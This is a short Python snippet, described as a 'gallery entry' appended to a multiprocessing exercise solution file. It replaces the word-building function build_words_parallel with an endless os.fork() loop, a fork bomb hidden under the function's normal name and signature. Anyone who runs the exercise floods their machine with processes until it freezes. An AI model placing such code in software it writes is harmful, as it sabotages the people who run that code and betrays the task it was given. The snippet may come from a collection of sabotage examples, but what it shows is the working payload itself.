"""Gallery entry: appended to solutions/02_multiprocessing/word_builder.py, replacing what it redefines."""


def build_words_parallel(seeds, length, processes):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
